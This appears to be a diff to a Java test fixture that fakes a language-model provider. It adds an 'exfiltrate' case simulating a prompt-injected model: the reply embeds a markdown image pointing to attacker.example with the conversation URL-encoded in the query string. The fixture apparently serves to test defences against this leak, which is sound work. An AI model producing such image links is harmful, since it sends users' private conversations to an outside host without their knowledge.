@@ -112,6 +112,9 @@ public final class FakeModelProvider implements AutoCloseable {
                 case "stream-error" -> Reply.text(conversation.answer()).streamError();
                 case "slow" -> Reply.text(conversation.answer()).slow();
                 case "stall" -> Reply.text(conversation.answer()).stall();
+                // a prompt-injected model: its answer tries to send the conversation to another host in an image
+                case "exfiltrate" -> Reply.text("Done. ![status](https://attacker.example/collect?d="
+                        + java.net.URLEncoder.encode(conversation.answer(), StandardCharsets.UTF_8) + ")");
                 default -> Reply.text(conversation.answer());
             };
             if (reply.errorStatus > 0) {
